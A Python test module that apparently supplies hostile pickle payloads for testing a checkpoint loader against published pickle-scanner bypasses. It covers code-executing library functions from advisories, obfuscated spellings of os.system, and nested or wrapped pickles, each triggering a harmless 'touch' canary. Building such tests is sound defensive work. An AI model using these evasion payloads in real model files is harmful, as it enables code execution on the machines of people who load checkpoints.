"""Published bypasses of pickle scanners: functions that no scanner listed, and other spellings of names.

The functions come from the security advisories of picklescan and fickling (GHSA, CVE-2025-1716, CVE-2025-10157 and the
later ones of 2025 and 2026). Each belongs to a library that most machines have, and runs text that it is given. A list
of bad names is never complete. dsconv lists the names that checkpoints need, so none of these is special here.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from attacks.payload import CANARY_MODULE, SYSTEM, Hostile, argv, code, fixed, function, nested, own_name, source, touch
from tests.checkpoint.building import blob, call, glob, lst, number, stack_glob, text, tup, whole

EMPTY = fixed(b"}")
SHELL = f"{Path('/bin/sh')}"


def _method(module: str, cls: str, name: str, *args: Callable[[str], bytes], real: bool = False) -> Hostile:
    """Call a method of an object made without its __init__: the dotted name is a function whose first argument is the
    object.
    """
    made = lambda c: glob(module, cls) + b")\x81"  # noqa: E731
    return function(module, f"{cls}.{name}", made, *args, protocol=4, real=real)


def _opened(c: str) -> bytes:
    return text(c)


PUBLISHED = [
    # CVE-2025-1716
    function("pip", "main", lambda c: lst(text("download"), text("--help"), text("--log"), text(c)), real=False),
    function("pip._internal", "main", lambda c: lst(text("--help"), text("--log"), text(c)), real=False),
    function("ensurepip", "_run_pip", fixed(lst(text("--version"))), fixed(b"N"), real=False),
    function("idlelib.run", "Executive.runcode", fixed(b"N"), source, protocol=4, real=False),
    function("idlelib.pyshell", "ModifiedInterpreter.runcommand", fixed(b"N"), source, protocol=4, real=False),
    function("idlelib.autocomplete", "AutoComplete.get_entity", fixed(b"N"), source, protocol=4, real=False),
    function("idlelib.calltip", "get_entity", source, real=False),
    function("idlelib.debugobj", "ObjectTreeItem.SetText", fixed(b"N"), source, protocol=4, real=False),
    function(
        "lib2to3.pgen2.grammar",
        "Grammar.loads",
        fixed(glob("lib2to3.pgen2.grammar", "Grammar") + b")\x81"),
        nested,
        protocol=4,
        real=False,
    ),
    function(
        "lib2to3.pgen2.pgen", "ParserGenerator.make_label", fixed(b"N"), fixed(b"N"), source, protocol=4, real=False
    ),
    function(
        "code",
        "InteractiveInterpreter.runcode",
        lambda c: call(glob("code", "InteractiveInterpreter")),
        source,
        protocol=4,
    ),
    function("doctest", "debug_script", source, real=False),
    function(
        "trace",
        "Trace.run",
        lambda c: call(glob("trace", "Trace"), number(0), number(0)),
        source,
        protocol=4,
        real=False,
    ),
    function(
        "trace",
        "Trace.runctx",
        lambda c: call(glob("trace", "Trace"), number(0), number(0)),
        source,
        EMPTY,
        EMPTY,
        protocol=4,
    ),
    function("cProfile", "runctx", source, EMPTY, EMPTY),
    function(
        "cProfile", "Profile.runctx", lambda c: call(glob("cProfile", "Profile")), source, EMPTY, EMPTY, protocol=4
    ),
    function("profile", "Profile.runctx", lambda c: call(glob("profile", "Profile")), source, EMPTY, EMPTY, protocol=4),
    function("profile", "runctx", source, EMPTY, EMPTY),
    function("bdb", "Bdb.runctx", lambda c: call(glob("bdb", "Bdb")), source, EMPTY, EMPTY, protocol=4),
    function("bdb", "Bdb.run", lambda c: call(glob("bdb", "Bdb")), source, EMPTY, EMPTY, protocol=4),
    function("pdb", "Pdb.run", lambda c: call(glob("pdb", "Pdb")), source, EMPTY, EMPTY, protocol=4, real=False),
    function(
        "timeit",
        "repeat",
        source,
        fixed(text("pass")),
        fixed(glob("time", "perf_counter")),
        fixed(number(1)),
        fixed(number(1)),
    ),
    function("timeit", "main", lambda c: lst(text("-n1"), text("-r1"), text(code(c)))),
    # CVE-2025-10157
    function("asyncio.unix_events", "_UnixSubprocessTransport._start", fixed(b"N"), argv, protocol=4, real=False),
    function("asyncio.base_subprocess", "BaseSubprocessTransport._start", fixed(b"N"), argv, protocol=4, real=False),
    function("uuid", "_get_command_stdout", fixed(text("touch")), _opened),
    function("_aix_support", "_read_cmd_output", touch, real=False),
    function("_osx_support", "_read_output", touch),
    function("_osx_support", "_find_build_tool", lambda c: text("x; touch " + c), real=False),
    function("distutils.file_util", "write_file", _opened, fixed(lst(text("x"))), real=False),
    function("distutils.spawn", "spawn", argv, real=False),
    function("imaplib", "IMAP4_stream", touch),
    function("test.support.script_helper", "assert_python_ok", fixed(text("-c")), source, real=False),
    function("pydoc", "pipepager", fixed(text("x")), touch),
    function("pydoc", "tempfilepager", fixed(text("x")), touch),
    function("pydoc", "safeimport", own_name),
    function("venv", "create", _opened, real=False),
    function("zipapp", "create_archive", fixed(text("/nonexistent")), _opened, real=False),
    function("shelve", "open", _opened, real=False),
    function("dbm.dumb", "open", _opened, fixed(text("n")), real=False),
    function("sqlite3", "connect", _opened),
    function("_sqlite3", "connect", _opened),
    function("logging", "FileHandler", _opened),
    function("logging.handlers", "WatchedFileHandler", _opened),
    function("tempfile", "NamedTemporaryFile", real=False),
    function("fileinput", "input", lambda c: lst(text(c)), real=False),
    function("codecs", "open", _opened, fixed(text("w"))),
    function("gzip", "open", _opened, fixed(text("w"))),
    function("bz2", "open", _opened, fixed(text("w"))),
    function("tarfile", "open", _opened, fixed(text("w"))),
    function("zipfile", "ZipFile", _opened, fixed(text("w"))),
    function("wave", "open", _opened, fixed(text("wb"))),
    function(
        "pathlib", "Path.write_text", lambda c: call(glob("pathlib", "Path"), text(c)), fixed(text("x")), protocol=4
    ),
    function("shutil", "copytree", fixed(text("/etc/opt")), _opened),
    function("os", "makedirs", _opened),
    function("os", "symlink", fixed(text("/etc/hostname")), _opened),
    function("os", "mknod", _opened),
    function("os", "open", _opened, fixed(number(0o101))),
    function("os", "posix_spawn", fixed(text("/usr/bin/touch")), argv, EMPTY, real=False),  # does not wait
    function("os", "spawnlp", fixed(number(0)), fixed(text("touch")), fixed(text("touch")), _opened),
    function("posix", "posix_spawn", fixed(text("/usr/bin/touch")), argv, EMPTY, real=False),
    function("posix", "open", _opened, fixed(number(0o101))),
    function("_posixsubprocess", "fork_exec", real=False),
    function("subprocess", "getstatusoutput", touch),
    function("subprocess", "check_call", argv),
    function("concurrent.futures.process", "_process_worker", real=False),
    function("multiprocessing.util", "spawnv_passfds", fixed(blob(b"/usr/bin/touch")), argv, fixed(b")"), real=False),
    function("importlib", "__import__", own_name),
    function(
        "importlib.machinery",
        "SourceFileLoader.load_module",
        lambda c: call(
            glob("importlib.machinery", "SourceFileLoader"),
            own_name(c),
            text(str(Path(c).parent / f"{CANARY_MODULE}.py")),
        ),
        protocol=4,
    ),
    function("zipimport", "zipimporter", _opened, real=False),
    function("site", "addpackage", fixed(text("/")), _opened, fixed(b"\x8f"), protocol=4, real=False),
    function("modulefinder", "ModuleFinder", real=False),
    function("rlcompleter", "Completer", real=False),
    function(
        "unittest.loader",
        "TestLoader.loadTestsFromName",
        fixed(call(glob("unittest.loader", "TestLoader"))),
        own_name,
        protocol=4,
    ),
    function("unittest.mock", "_importer", own_name, real=False),
    function("xml.sax", "make_parser", lambda c: lst(own_name(c))),
    function("email.message", "Message", real=False),
    function("types", "CodeType.replace", protocol=4, real=False),
    function("gc", "get_objects", real=False),
    function("sys", "settrace", fixed(SYSTEM), real=False),
    function("signal", "signal", fixed(number(14)), fixed(SYSTEM), real=False),
    function("nturl2path", "url2pathname", fixed(text("x")), real=False),
    function("ssl", "get_server_certificate", fixed(tup(text("127.0.0.1"), number(9))), real=False),
    function("http.client", "HTTPConnection", fixed(text("127.0.0.1")), real=False),
    function("smtplib", "SMTP", fixed(text("127.0.0.1")), fixed(number(9)), real=False),
    function("ftplib", "FTP", fixed(text("127.0.0.1")), real=False),
    function("xmlrpc.client", "ServerProxy", fixed(text("http://127.0.0.1:9")), real=False),
    function("dataclasses", "_create_fn", fixed(text("f")), fixed(lst()), source, real=False),
    function("collections", "namedtuple", fixed(text("x")), source, real=False),
    function("torch.utils.collect_env", "run", touch),
    function("torch.utils.bottleneck.__main__", "run_cprofile", source, EMPTY, real=False),
    function("torch.utils._config_module", "ConfigModule.load_config", fixed(b"N"), nested, protocol=4),
    function("torch.jit.unsupported_tensor_ops", "execWrapper", source, EMPTY, EMPTY),
    function("torch.fx.graph_module", "reduce_graph_module", fixed(b"}"), fixed(text("")), real=False),
    function("torch.fx.graph_module", "_exec_with_source", source, EMPTY),
    function(
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
        fixed(b"N"),
        source,
        fixed(lst()),
        protocol=4,
        real=False,
    ),
    function("torch._dynamo.guards", "GuardBuilder.get", fixed(b"N"), source, protocol=4, real=False),
    function("torch._inductor.codecache", "PyCodeCache.load", source, protocol=4, real=False),
    function("torch.package.package_importer", "PackageImporter", _opened, real=False),
    function("torch.distributed.rpc.internal", "_run_function", real=False),
    function("torch.multiprocessing.spawn", "spawn", real=False),
    function("torch.nn.utils.rnn", "__builtins__.eval", source, protocol=4, real=False),
    function("numpy.f2py.crackfortran", "param_eval", source, EMPTY, EMPTY),
    function("numpy.f2py.crackfortran", "_eval_length", source, EMPTY),
    function("numpy.f2py.diagnose", "run_command", touch, real=False),
    function("numpy.lib.npyio", "NpzFile", _opened, real=False),
    function("scipy.io", "loadmat", _opened, real=False),
    function("cloudpickle.cloudpickle", "_make_function", real=False),
    function("cloudpickle", "loads", nested, real=False),
    function("dill", "loads", nested, real=False),
    function("dill._dill", "_create_function", real=False),
    function("joblib.numpy_pickle", "load", _opened, real=False),
    function("transformers.utils.import_utils", "define_import_structure", _opened, real=False),
    function("deepspeed.launcher.runner", "main", argv, real=False),
    function(
        "deepspeed.ops.op_builder.builder", "OpBuilder.command_exists", fixed(b"N"), touch, protocol=4, real=False
    ),
    function("triton.runtime.build", "_build", real=False),
    function("sympy.parsing.sympy_parser", "eval_expr", source, EMPTY, EMPTY, real=False),
    function("jinja2.utils", "import_string", own_name, real=False),
    function("setuptools._distutils.spawn", "spawn", argv, real=False),
    function("ctypes.util", "_findLib_gcc", touch, real=False),
]


def _spelled(title: str, program: Callable[[str], bytes], says: str = "os.system", real: bool = True) -> Hostile:
    return Hostile(f"spelled: {title}", program, says, real=real)


SPELLINGS = [
    _spelled(
        "module and name as escaped protocol 0 strings",
        lambda c: whole(rb"S'\x6f\x73'" + b"\n" + rb"S'\163ystem'" + b"\n\x93", tup(touch(c)), b"R"),
    ),
    _spelled(
        "as escaped protocol 0 unicode",
        lambda c: whole(rb"V\u006f\u0073" + b"\n" + rb"V\u0073ystem" + b"\n\x93", tup(touch(c)), b"R"),
    ),
    _spelled("as short byte strings", lambda c: whole(b"U\x02osU\x06system\x93", tup(touch(c)), b"R")),
    _spelled("as long byte strings", lambda c: whole(b"T\x02\0\0\0osT\x06\0\0\0system\x93", tup(touch(c)), b"R")),
    _spelled("as short unicode", lambda c: whole(b"\x8c\x02os\x8c\x06system\x93", tup(touch(c)), b"R", protocol=4)),
    _spelled(
        "as unicode of eight length bytes",
        lambda c: whole(
            b"\x8d\x02" + bytes(7) + b"os\x8d\x06" + bytes(7) + b"system\x93", tup(touch(c)), b"R", protocol=4
        ),
    ),
    _spelled(
        "the module twice in the memo",
        lambda c: whole(b"\x8c\x02os\x94\x940h\x01\x8c\x06system\x93", tup(touch(c)), b"R", protocol=4),
        real=True,
    ),
    _spelled(
        "text of the name duplicated and dropped",
        lambda c: whole(b"\x8c\x02os\x8c\x06system20\x93", tup(touch(c)), b"R", protocol=4),
    ),
    _spelled(
        "a frame over each opcode",
        lambda c: whole(
            b"".join(
                b"\x95" + len(op).to_bytes(8, "little") + op for op in (b"\x8c\x02os", b"\x8c\x06system", b"\x93")
            ),
            tup(touch(c)),
            b"R",
            protocol=4,
        ),
    ),
    _spelled(
        "PROTO 0 within a program of protocol 4",
        lambda c: whole(b"\x80\x00", stack_glob("os", "system"), b"\x80\x05", tup(touch(c)), b"R", protocol=4),
    ),
    _spelled("no PROTO at all, protocol 4 opcodes", lambda c: b"\x8c\x02os\x8c\x06system\x93" + tup(touch(c)) + b"R."),
    _spelled(
        "the alias of the platform: posix",
        lambda c: whole(call(stack_glob("posix", "system"), touch(c)), protocol=4),
        "posix.system",
    ),
    _spelled(
        "through a package that imported os",
        lambda c: whole(call(stack_glob("shutil", "os.system"), touch(c)), protocol=4),
        "shutil.os.system",
    ),
    _spelled(
        "through sys.modules",
        lambda c: whole(call(stack_glob("sys", "modules.__getitem__"), text("os")), protocol=4),
        "sys.modules",
        real=False,
    ),
    _spelled(
        "through __main__",
        lambda c: whole(call(stack_glob("__main__", "__builtins__.eval"), text(code(c))), protocol=4),
        "__main__.__builtins__.eval",
        real=False,
    ),
    _spelled(
        "through a class's __init__.__globals__",
        lambda c: whole(call(stack_glob("collections", "Counter.__init__.__globals__.get"), text("_sys")), protocol=4),
        "collections.Counter",
        real=False,
    ),
    _spelled(
        "through object.__subclasses__",
        lambda c: whole(call(stack_glob("builtins", "object.__subclasses__")), protocol=4),
        "builtins.object.__subclasses__",
        real=False,
    ),
    _spelled(
        "a call before the stream breaks off", lambda c: whole(call(SYSTEM, touch(c)))[:-1] + b"\xff\xff"
    ),  # "nullifAI", 2025
    _spelled("a call before a STOP that comes too early", lambda c: whole(b"(" + call(SYSTEM, touch(c)))),
    _spelled(
        "a second pickle's call in the first one's list", lambda c: whole(lst(call(SYSTEM, touch(c)), b"N"), b"0N")
    ),
    _spelled("GLOBAL's name with a space", lambda c: whole(b"cos\nsystem \n", tup(touch(c)), b"R"), real=False),
    _spelled(
        "GLOBAL's module with a carriage return",
        lambda c: whole(b"cos\r\nsystem\n", tup(touch(c)), b"R"),
        "system",
        real=False,
    ),
    _spelled(
        "a letter of another alphabet",
        lambda c: whole(b"c\xd0\xbes\nsystem\n", tup(touch(c)), b"R"),
        "system",
        real=False,
    ),
    _spelled(
        "full-width letters, which Python's compiler folds",
        lambda c: whole("c\uff4f\uff53\nsystem\n".encode(), tup(touch(c)), b"R"),
        "system",
        real=False,
    ),
    _spelled(
        "a registered extension",
        lambda c: whole(
            call(glob("copyreg", "add_extension"), text("os"), text("system"), number(1)),
            b"0\x82\x01",
            tup(touch(c)),
            b"R",
        ),
        "copyreg.add_extension",
    ),
    _spelled(
        "the pickler's own find_class",
        lambda c: whole(
            call(stack_glob("pickle", "_Unpickler.find_class"), b"N", text("os"), text("system")), protocol=4
        ),
        "pickle._Unpickler.find_class",
        real=False,
    ),
    _spelled(
        "apply by functools.reduce of getattr",
        lambda c: whole(call(glob("functools", "reduce"), glob("builtins", "getattr"), lst(text("a"), text("b")))),
        "functools.reduce",
        real=False,
    ),
    _spelled(
        "map made to a list",
        lambda c: whole(call(glob("builtins", "list"), call(glob("builtins", "map"), SYSTEM, lst(touch(c))))),
        "builtins.map",
    ),
    _spelled(
        "a filter in a tuple",
        lambda c: whole(call(glob("builtins", "tuple"), call(glob("builtins", "filter"), SYSTEM, lst(touch(c))))),
        "builtins.filter",
    ),
    _spelled(
        "max with a key",
        lambda c: whole(glob("builtins", "max"), tup(text("x")), b"}", text("key"), SYSTEM, b"s\x92", protocol=4),
        "builtins.max",
        real=False,
    ),
]


def _reversed_nested(c: str) -> bytes:
    return blob(whole(call(glob("pickle", "loads"), nested(c))))


ARCHIVES = [
    Hostile(
        "a pickle in a pickle in a pickle",
        lambda c: whole(call(glob("pickle", "loads"), _reversed_nested(c))),
        "pickle.loads",
    ),
    Hostile(
        "a pickle in a torch file in a pickle",
        lambda c: whole(call(glob("torch.storage", "_load_from_bytes"), nested(c))),
        "_load_from_bytes",
    ),
    Hostile(
        "a pickle in marshal", lambda c: whole(call(glob("marshal", "loads"), blob(b"N"))), "marshal.loads", real=False
    ),
    Hostile(
        "a pickle in base64",
        lambda c: whole(call(glob("base64", "b64decode"), text("gASVAAAA"))),
        "base64.b64decode",
        real=False,
    ),
    Hostile(
        "a pickle in zlib", lambda c: whole(call(glob("zlib", "decompress"), blob(b"x"))), "zlib.decompress", real=False
    ),
    Hostile(
        "a pickle in a BytesIO that is unpickled",
        lambda c: whole(call(glob("pickle", "load"), call(glob("io", "BytesIO"), nested(c)))),
        "pickle.load",
    ),
    Hostile(
        "an Unpickler's load",
        lambda c: whole(
            call(
                stack_glob("_pickle", "Unpickler.load"),
                call(glob("_pickle", "Unpickler"), call(glob("io", "BytesIO"), nested(c))),
            ),
            protocol=4,
        ),
        "_pickle.Unpickler",
    ),
    Hostile(
        "an array of numpy objects",
        lambda c: whole(call(glob("numpy", "load"), call(glob("io", "BytesIO"), blob(b"\x93NUMPY")))),
        "numpy.load",
        real=False,
    ),
    Hostile("a shelf", lambda c: whole(call(glob("shelve", "open"), text(c))), "shelve.open", real=False),
    Hostile(
        "a zip that is imported",
        lambda c: whole(call(glob("zipimport", "zipimporter"), text(c))),
        "zipimport.zipimporter",
        real=False,
    ),
    Hostile(
        "a reduced tensor subclass around a nested call",
        lambda c: whole(
            call(
                glob("torch._tensor", "_rebuild_from_type_v2"),
                glob("pickle", "loads"),
                glob("torch", "Tensor"),
                tup(nested(c)),
                b"N",
            )
        ),
        "pickle.loads",
    ),
    Hostile(
        "a parameter around a nested call",
        lambda c: whole(call(glob("torch._utils", "_rebuild_parameter"), call(SYSTEM, touch(c)), b"\x89", b"N")),
        "os.system",
    ),
    Hostile(
        "an OrderedDict whose value is a call",
        lambda c: whole(call(glob("collections", "OrderedDict"), lst(lst(text("w"), call(SYSTEM, touch(c)))))),
        "os.system",
    ),
    Hostile(
        "a defaultdict whose factory is os.system",
        lambda c: whole(call(glob("collections", "defaultdict"), SYSTEM)),
        "os.system",
        real=False,
    ),
    Hostile(
        "the state of an object is a call",
        lambda c: whole(glob(CANARY_MODULE, "Evil") + b")\x81", call(SYSTEM, touch(c)), b"b"),
        "os.system",
        real=True,
    ),
    Hostile(
        "a slot of a set is a call", lambda c: whole(b"\x8f(", call(SYSTEM, touch(c)), b"\x90", protocol=4), "os.system"
    ),
    Hostile(
        "a key of a frozenset is a call",
        lambda c: whole(b"(", call(SYSTEM, touch(c)), b"\x91", protocol=4),
        "os.system",
    ),
]
